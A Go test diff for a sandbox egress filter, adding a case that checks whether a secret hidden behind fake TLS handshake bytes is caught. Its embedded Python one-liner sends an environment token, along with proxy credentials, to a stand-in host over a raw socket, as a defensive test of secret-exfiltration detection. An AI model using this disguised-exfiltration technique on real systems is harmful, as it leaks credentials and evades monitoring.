@@ -246,3 +246,39 @@ func TestGatePorts(t *testing.T) {
 		}
 	})
 }
+
+// TestSecretLikeTLS: a secret in clear text is found behind what only begins like
+// TLS, which is carried otherwise. That TLS passes is TestHTTP2's to show.
+func TestSecretLikeTLS(t *testing.T) {
+	say := func(bytes string) string {
+		return `python3 -c 'import socket, os, base64, urllib.parse
+u = urllib.parse.urlsplit(os.environ.get("https_proxy", ""))
+s = socket.create_connection((u.hostname, u.port) if u.hostname else ("ok.test", 9418), 5); s.settimeout(9)
+if u.hostname:
+    s.sendall(b"CONNECT ok.test:9418 HTTP/1.1\r\nProxy-Authorization: Basic " + base64.b64encode((u.username + ":" + u.password).encode()) + b"\r\n\r\n"); s.recv(999)
+s.sendall(` + bytes + `); s.shutdown(socket.SHUT_WR)
+r = b""
+try:
+    while True:
+        d = s.recv(9999)
+        if not d: break
+        r += d
+except OSError: pass
+print(len(r), b"AbCdEfGhIj" in r)'; `
+	}
+	const token = `b"tok-0123456789-" + b"AbCdEfGhIj"`
+	gates(t, func(t *testing.T, j *jail, w world) {
+		j.env = append(j.env, "MY_TOKEN=tok-0123456789-AbCdEfGhIj")
+		for _, begin := range []string{`b"\x16" + `, `b"\x16\x03\x01\x00\x40\x01" + `, `b"\x16\x03\x01\x00\x1d\x02\x00\x00\x19" + `} {
+			if r, log := w.outside(j, say(begin+token)); !strings.Contains(r.stdout, "True") {
+				t.Fatalf("control: %s\n%s", r.all(), log)
+			}
+			if r, log := w.inside(j, say(begin+token)); strings.Contains(r.stdout, "True") || !strings.Contains(r.stderr, "EGRESS_SECRET") {
+				t.Errorf("%s: %s\n%s", begin, r.all(), log)
+			}
+		}
+		if r, log := w.inside(j, say(`b"\x16\x03\x01\x00\x40\x01 harmless"`)); r.stdout != "15 False\n" {
+			t.Errorf("harmless: %s\n%s", r.all(), log)
+		}
+	})
+}
